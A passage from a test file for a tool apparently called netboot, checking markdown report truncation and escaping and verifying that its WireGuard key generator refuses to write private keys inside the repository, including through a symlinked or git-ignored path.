    expect(renderedParts(cut)).not.toContain("line ");
    expect(cut).toMatch(/\n```\n\n\[\d+ more characters omitted; the full report is in the job log\]\n$/);
    expect(markdownCode("a|b`c")).toBe("``a\\|b`c``");
  });
});

describe("private keys are never written inside the repository (issue 25, item 8)", () => {
  test("wg:keygen --out <a directory that is a symlink into the repository>/k.key and a git-ignored path: refused, naming --out; nothing written", () => {
    const outside = mkdtempSync(join(tmpdir(), "netboot-keygen-link-"));
    symlinkSync(join(REPO_ROOT, "test"), join(outside, "repo-link"));
    const viaLink = join(outside, "repo-link", "k.key");
    const linked = runCommand("wg-keygen", ["home-router", "--out", viaLink]);
    expect(linked.status).toBe(1);
    expect(linked.stderr).toBe(
      `error: --out ${viaLink}: refusing to write a private key inside the repository (it resolves to ${join(REPO_ROOT, "test", "k.key")}), ignored by git or not; choose a path outside it, e.g. ~/.config/netboot/wireguard/\n`,
    );
    const ignored = join(REPO_ROOT, "netboot-keys", "k.key"); // netboot-keys/ is in .gitignore
    const direct = runCommand("wg-keygen", ["home-router", "--out", ignored]);
    expect(direct.status).toBe(1);
    expect(direct.stderr).toBe(`error: --out ${ignored}: refusing to write a private key inside the repository, ignored by git or not; choose a path outside it, e.g. ~/.config/netboot/wireguard/\n`);
    expect(direct.stdout + linked.stdout).toBe("");
    expect(require("node:fs").existsSync(join(REPO_ROOT, "test", "k.key"))).toBe(false);
    expect(require("node:fs").existsSync(ignored)).toBe(false);
  });
});
